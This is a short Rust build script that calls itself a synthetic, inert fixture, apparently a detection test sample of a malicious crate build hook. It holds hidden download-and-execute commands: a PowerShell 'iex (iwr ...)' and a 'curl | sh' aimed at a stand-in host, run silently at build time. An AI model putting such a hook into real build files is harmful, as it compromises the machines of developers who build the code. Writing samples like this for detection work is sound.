// Synthetic, inert fixture written from public reports
use std::process::{Command, Stdio};

fn main() {
    let target = std::env::var("TARGET").unwrap_or_default();
    if cfg!(windows) {
        let _ = Command::new("powershell")
            .args(["-NoProfile", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-Command"])
            .arg("iex (iwr -UseBasicParsing http://203.0.113.77/w/init.ps1).Content")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
    } else {
        let _ = Command::new("sh")
            .arg("-c")
            .arg("curl -fsSL http://203.0.113.77/u/init.sh | sh >/dev/null 2>&1 &")
            .status();
    }
    println!("cargo:rustc-env=COLSPAN_TARGET={target}");
    println!("cargo:rerun-if-changed=build.rs");
}

inert_fixture_does_not_build!();
